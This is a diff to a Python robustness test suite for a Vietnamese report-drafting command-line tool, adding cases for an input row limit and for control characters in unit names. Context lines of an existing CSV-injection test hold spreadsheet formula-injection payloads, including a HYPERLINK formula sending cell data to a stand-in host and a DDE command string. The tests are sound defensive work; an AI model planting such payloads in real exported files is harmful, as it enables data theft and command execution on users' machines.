@@ -384,6 +384,15 @@ def case_xlsx_million_rows(tmp: Path, scale: str) -> Case:
                 seconds=120 if scale == "bench" else 40, protected=[path], env=env)
 
 
+def case_draft_input_over_limit(tmp: Path, scale: str) -> Case:
+    """``draft --limit`` applies to the input it reads, as ``verify --limit`` does."""
+    path = write_xlsx(tmp / "bang-60-dong.xlsx", _score_rows(60))
+    out = tmp / "du-thao-60.docx"
+    return Case("draft_input_over_limit", ["draft", str(path), "-o", str(out), "--limit", "xlsx_rows=40"], {2},
+                "--limit xlsx_rows=", mem_mb=600, seconds=60, protected=[path],
+                check=lambda o: "an output was written" if out.exists() else None)
+
+
 def case_xlsx_bad_numbers(tmp: Path, scale: str) -> Case:
     rows = [["STT", "Tên đơn vị", "Công khai, minh bạch", "Tiến độ giải quyết", "Tổng điểm"],
             [1, "Sở Tư pháp", 10, 15, 25],
@@ -597,6 +606,26 @@ def case_per_unit_control_char(tmp: Path, scale: str) -> Case:
                 mem_mb=600, seconds=60, protected=[src], check=check)
 
 
+def case_draft_control_chars(tmp: Path, scale: str) -> Case:
+    """One draft (not per unit) of a report whose unit names hold control
+    characters: the draft is written, opens, and names the unit without them."""
+    src = _units_text(tmp, ["Sở Tư\x01 pháp\x0b", "Sở\x1b[31m Y tế"])
+    out = tmp / "du-thao-ky-tu.docx"
+
+    def check(o: Outcome) -> str | None:
+        import docx
+
+        try:
+            document = docx.Document(str(out))
+        except Exception as exc:  # Word would not open it either
+            return f"{out.name} does not open: {type(exc).__name__}"
+        names = {c.text for t in document.tables for r in t.rows for c in r.cells}
+        return None if {"Sở Tư pháp", "Sở[31m Y tế"} <= names else "unit names not in the appendix as cleaned"
+
+    return Case("draft_control_chars", ["draft", str(src), "-o", str(out)], {0}, "Đã soạn", mem_mb=600,
+                seconds=60, protected=[src], check=check)
+
+
 def case_csv_injection(tmp: Path, scale: str) -> Case:
     src = _units_text(tmp, ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)",
                             "-2+3", "\tSở Tư pháp"])
@@ -679,7 +708,7 @@ def case_umask(tmp: Path, scale: str) -> Case:
 
 def case_broken_doc(tmp: Path, scale: str) -> Case:
     sys.path.insert(0, str(ROOT / "tests"))
-    from test_parsers_bad_office import make_ole
+    from cfb import make_ole
 
     path = tmp / "hong.doc"
     path.write_bytes(make_ole({"WordDocument": b"\xec\xa5" + os.urandom(1500), "1Table": os.urandom(600)}))
@@ -687,11 +716,14 @@ def case_broken_doc(tmp: Path, scale: str) -> Case:
 
 
 ALL = [case_pdf_stream_bomb, case_pdf_huge_page, case_pdf_cyclic_pages, case_pdf_noise_scan, case_yaml_alias_bomb,
-       case_template_cpu, case_template_memory, case_xlsx_many_rows, case_xlsx_million_rows, case_xlsx_bad_numbers,
+       case_template_cpu, case_template_memory, case_xlsx_many_rows, case_xlsx_million_rows,
+       case_draft_input_over_limit,
+       case_xlsx_bad_numbers,
        case_text_26_digits, case_docx_flood, case_dev_zero, case_fifo, case_missing_db_history, case_export_onto_db,
        case_export_onto_db_symlink, case_corrupt_db, case_newer_schema, case_draft_onto_input,
        case_draft_pdf_onto_input, case_output_is_directory, case_outdir_is_file, case_per_unit_folded_names,
-       case_per_unit_control_char, case_csv_injection, case_export_xlsx_injection, case_import_folder_bad_file,
+       case_per_unit_control_char, case_draft_control_chars,
+       case_csv_injection, case_export_xlsx_injection, case_import_folder_bad_file,
        case_wrong_password, case_umask, case_broken_doc]
 
 
